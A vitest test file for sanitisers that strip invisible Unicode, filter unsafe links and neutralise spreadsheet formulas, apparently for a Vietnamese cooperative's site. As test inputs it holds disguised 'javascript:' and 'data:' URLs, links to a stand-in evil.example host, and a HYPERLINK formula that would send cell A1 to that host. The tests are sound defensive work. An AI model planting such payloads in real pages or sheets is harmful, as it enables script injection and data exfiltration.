import { describe, expect, it } from 'vitest';
import { safeLink } from '../../src/lib/html/safe-url.ts';
import { formulaSafe } from '../../src/lib/spreadsheet/formula-safe.ts';
import { cleanLine, removeInvisible } from '../../src/lib/text/clean.ts';

describe('removeInvisible', () => {
  it.each([
    ['C0 control', 'Hợp tác xã\u0001 A', 'Hợp tác xã A', ['U+0001']],
    ['DEL and C1', 'a\u007fb\u0085c\u009fd', 'abcd', ['U+007F', 'U+0085', 'U+009F']],
    ['zero-width space between Vietnamese words', 'Mật\u200b ong', 'Mật ong', ['U+200B']],
    ['byte-order mark and word joiner', '\ufeffChè\u2060 xanh', 'Chè xanh', ['U+FEFF', 'U+2060']],
    ['direction overrides and isolates', 'a\u202eb\u2066c\u2069', 'abc', ['U+202E', 'U+2066', 'U+2069']],
    ['lone surrogates and noncharacters', 'a\ud800b\uffffc', 'abc', ['U+D800', 'U+FFFF']],
    ['soft hyphen, Mongolian vowel separator, Hangul filler', 'a\u00adb\u180ec\u3164d', 'abcd', ['U+00AD', 'U+180E', 'U+3164']],
    ['a zero-width joiner that joins nothing', 'Mật ong\u200d ', 'Mật ong ', ['U+200D']],
  ])('removes %s', (_, input, text, removed) => {
    expect(removeInvisible(input)).toMatchObject({ text, removed });
  });

  it.each([
    ['an emoji sequence', 'Nông dân 👨\u200d🌾'],
    ['a joiner between two letters', 'ক\u200dষ'],
    ['a zero-width space between Khmer words', 'ខ្មែរ\u200bខ'],
    ['a subdivision flag', '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}'],
    ['tabs and newlines in a body', 'a\tb\nc'],
    ['ordinary Vietnamese', 'Đường thốt nốt Tri Tôn'],
  ])('keeps %s', (_, input) => {
    expect(removeInvisible(input)).toEqual({ text: input, removed: [], after: '' });
  });

  it('says which words the first removed character follows', () => {
    expect(removeInvisible('Hợp tác xã Mật ong Bạc\u0001 Hà').after).toBe('xã Mật ong Bạc');
    expect(removeInvisible('\u200bA').after).toBe('');
  });

  it('writes Vietnamese in composed form (NFC), as typed on most keyboards', () => {
    expect(removeInvisible('Me\u0300 đen').text).toBe('Mè đen');
  });
});

describe('cleanLine', () => {
  it('collapses every kind of space, tab and newline, and trims', () => {
    expect(cleanLine('  Mật\u00a0ong\t\nrừng\u2028 \u3000').text).toBe('Mật ong rừng');
  });
});

describe('safeLink', () => {
  it.each([
    ['https://shopee.vn/htx', 'https://shopee.vn/htx'],
    ['  https://shopee.vn/htx ', 'https://shopee.vn/htx'],
    ['mailto:htx@example.vn', 'mailto:htx@example.vn'],
    ['tel:+84912345678', 'tel:+84912345678'],
    ['#lien-he', '#lien-he'],
    ['../mat-ong/', '../mat-ong/'],
    ['javascript:alert(1)', undefined],
    ['\u00a0javascript:alert(1)', undefined],
    ['\u3000javascript:alert(1)', undefined],
    ['java\u200bscript:alert(1)', undefined],
    ['JAVA\tSCRIPT:alert(1)', undefined],
    ['\u0000javascript:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['//evil.example/', undefined],
    ['\\\\evil.example/', undefined],
    ['ht\u200btps://evil.example/', undefined],
    ['\u2028https://shopee.vn/', undefined],
    ['', undefined],
  ])('%j → %j', (href, expected) => {
    expect(safeLink(href)).toBe(expected);
  });
});

describe('formulaSafe', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Bấm xem giá")', `'=HYPERLINK("https://evil.example/?"&A1,"Bấm xem giá")`],
    ['+84 912 345 678', `'+84 912 345 678`],
    ['-1+1', `'-1+1`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1', `'\t=1`],
    [' =1', `' =1`],
    ['＝1+1', `'＝1+1`],
    ['Mật ong bạc hà', 'Mật ong bạc hà'],
    ['0912 345 678', '0912 345 678'],
    ['2026-05-28', '2026-05-28'],
    ['', ''],
  ])('%j → %j', (cell, expected) => {
    expect(formulaSafe(cell)).toBe(expected);
  });
});
